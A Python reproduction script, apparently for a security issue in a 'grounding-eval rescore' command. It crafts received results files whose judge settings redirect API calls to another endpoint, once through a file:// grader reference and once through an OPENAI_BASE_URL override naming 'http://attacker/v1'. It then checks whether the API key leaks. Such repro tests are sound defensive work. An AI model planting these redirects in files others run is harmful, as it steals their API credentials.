"""Break: `grounding-eval rescore` of a received results file follows an endpoint the file hides from the
received-endpoint check (issue 39): no switch set, only OPENAI_API_KEY; the row's judge is
(a) config.provider: file://grader.yaml  (the file, in the received folder, names apiBaseUrl), or
(b) config.provider: {id: openai:chat:gpt-4o-mini, env: {OPENAI_BASE_URL: http://attacker/v1}}.
Docs: "a row whose judge settings name an endpoint other than a model provider's own API host is not followed".
Input: repro/received_results.base.json (promptfoo eval of the shipped sample, --filter-first-n 2).
"""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
import sys

import yaml

from common import REPO, Endpoint, _echoing, partner_env, report, tmpdir

BASE = json.loads((REPO / "repro" / "received_results.base.json").read_text(encoding="utf-8"))


def main() -> int:
    leaks = 0
    for variant in ("a-file-ref", "b-provider-env"):
        ep = Endpoint(_echoing)
        tmp = tmpdir("rescore")
        s = tmp / "study"
        s.mkdir()
        shutil.copytree(REPO / "datasets" / "sample", s / "datasets" / "sample")  # a received study ships its data
        with ep.running():
            (s / "grader.yaml").write_text(yaml.safe_dump(
                {"id": "openai:chat:gpt-4o-mini", "config": {"apiBaseUrl": f"{ep.url}/v1"}}), encoding="utf-8")
            data = copy.deepcopy(BASE)
            for row in data["results"]["results"]:
                for a in row["testCase"]["assert"]:
                    if str(a.get("value", "")).endswith("grounding.cjs:judge"):
                        a["config"]["provider"] = ("file://grader.yaml" if variant == "a-file-ref" else
                                                   {"id": "openai:chat:gpt-4o-mini",
                                                    "env": {"OPENAI_BASE_URL": f"{ep.url}/v1"}})
            (s / "results.json").write_text(json.dumps(data), encoding="utf-8")
            done = subprocess.run(
                [str(REPO / ".venv" / "bin" / "python"), "-m", "grounding_eval", "rescore", "results.json",
                 "-o", str(tmp / "new.json"), "-j", "1"],
                cwd=s, env=partner_env(tmp), capture_output=True, text=True, timeout=400, check=False)
        leaks += report(ep, done, f"rescore {variant}")
        print("    stderr:", done.stderr.strip().splitlines()[:3])
    return 1 if leaks else 0


if __name__ == "__main__":
    sys.exit(main())
